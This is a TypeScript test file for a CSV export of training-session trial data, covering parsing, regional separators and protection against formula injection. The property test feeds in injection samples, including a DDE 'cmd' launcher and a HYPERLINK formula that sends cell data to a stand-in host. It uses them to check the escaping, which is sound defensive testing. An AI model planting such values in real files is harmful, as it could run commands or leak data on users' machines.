import fc from 'fast-check';
import { expect, test, vi } from 'vitest';
import { isKnown } from '../../../src/facts/fact.ts';
import { CSV_COLUMNS, csvDictionary, trialsCsv } from '../../../src/report/csv.ts';
import { CSV_STYLES, csvCell, csvLine } from '../../../src/report/csv-line.ts';
import { generate } from '../../bench/generate.ts';

// Thousands of cases on a busy machine.
vi.setConfig({ testTimeout: 120_000 });

/** A reader written from RFC 4180 alone, with the separator of its spreadsheet. */
function parse(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let [row, cell, quoted]: [string[], string, boolean] = [[], '', false];
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      i++;
    } else cell += c;
  }
  expect(quoted).toBe(false);
  expect(cell).toBe('');
  return rows;
}
const SEPARATOR = { comma: ',', semicolon: ';' } as const;
const { sessions, facts: stored } = generate({ people: 2, sessions: 4, seed: 3 });
const facts = stored.filter(isKnown);

test.each(CSV_STYLES)(
  '%s: one row a trial, every row as long as the first, numbers as they were',
  (style) => {
    const [head, ...rows] = parse(trialsCsv(sessions, { style, facts }).join(''), SEPARATOR[style]);
    const written = (x: number) => (style === 'semicolon' ? String(x).replace('.', ',') : String(x));
    const trials = sessions.flatMap((s) => s.drills.flatMap((d) => d.trials.map((t) => ({ s, d, t }))));
    expect(rows).toHaveLength(trials.length);
    expect(rows.every((row) => row.length === head?.length)).toBe(true);
    const column = (name: string) => head?.indexOf(name) ?? -1;
    for (const row of rows) {
      const of = trials.find(
        ({ s, d, t }) =>
          s.id === row[column('session')] &&
          d.drill === row[column('drill')] &&
          String(t.n) === row[column('trial')],
      );
      expect(row[column('outcome')]).toBe(of?.t.outcome);
      expect(row[column('target')]).toBe(of?.t.target == null ? '' : written(of.t.target));
      expect(Number(row[column('end')]?.replace(',', '.'))).toBeCloseTo(
        ((of?.t.t1 ?? 0) - (of?.s.clock ?? 0)) / 1000,
        3,
      );
      for (const [name, value] of Object.entries(of?.t.metrics ?? {}))
        expect(row[column(`metric_${name}`)]).toBe(written(value));
    }
  },
);

test('R8 a row of the German table has its columns in a German spreadsheet, parameters in one cell', () => {
  const [head, first] = parse(trialsCsv(sessions, { style: 'semicolon', facts }).join(''), ';');
  expect(head?.length).toBeGreaterThan(CSV_COLUMNS.length);
  const asked = first?.[head?.indexOf('parameters') ?? -1] ?? '';
  expect(asked).toMatch(/^\w+=\S+( \w+=\S+)*$/);
});

test('L3 entries that were merged are one person', () => {
  const [head, ...rows] = parse(trialsCsv(sessions, { style: 'comma', facts, person: 'me' }).join(''));
  const at = head?.indexOf('person') ?? -1;
  expect(new Set(rows.map((row) => row[at]))).toEqual(new Set(['me']));
});

test('no text can be a formula, whichever separator the spreadsheet has (R7, I1; property)', () => {
  const text = fc.oneof(
    fc.string(),
    fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '\n+', '＝'), fc.string())
      .map((x) => x.join('')),
    fc.string({ unit: fc.constantFrom('"', ',', ';', '\r', '\n', '=', '-', ' ', "'", 'a') }),
    fc.constantFrom("x;=cmd|' /C calc'!A0;", 'x;=HYPERLINK("http://e/?"&A2)', 'a,"=1', ';"";=1'),
  );
  const begins = /^[\s"]*[=+\-@＝＋－＠]/;
  fc.assert(
    fc.property(
      fc.array(text, { minLength: 1, maxLength: 5 }),
      fc.constantFrom(...CSV_STYLES),
      (cells, style) => {
        const line = csvLine(cells, style);
        const [row, ...more] = parse(line, SEPARATOR[style]);
        expect(more).toEqual([]);
        // Nothing is lost but that apostrophes were added.
        expect(row?.map((cell) => cell.replaceAll("'", ''))).toEqual(
          cells.map((cell) => cell.replaceAll("'", '')),
        );
        for (const cell of row ?? []) expect(cell).not.toMatch(begins);
        // A spreadsheet of the other style, and a careless one that knows no quotes, split elsewhere.
        for (const part of line.split(/[;,\t\r\n]/)) expect(part).not.toMatch(begins);
      },
    ),
    { numRuns: 4000 },
  );
});

test('negative numbers stay numbers, and nothing stays empty', () => {
  expect([csvCell(-0.5), csvCell(null), csvCell(false), csvCell('-0.5'), csvCell(-0.5, 'semicolon')]).toEqual(
    ['-0.5', '', 'false', '"\'-0.5"', '-0,5'],
  );
});

test('every column is documented once', () => {
  const names = CSV_COLUMNS.map((column) => column.name);
  expect(new Set(names).size).toBe(names.length);
  const rows = parse(csvDictionary({ held: { unit: 's', about: 'Time held, "in place".' } }, 'comma'));
  expect(rows.map((row) => row[0])).toEqual(['column', ...names, 'metric_held']);
  expect(rows.every((row) => row.length === 3 && row[2] !== '')).toBe(true);
});
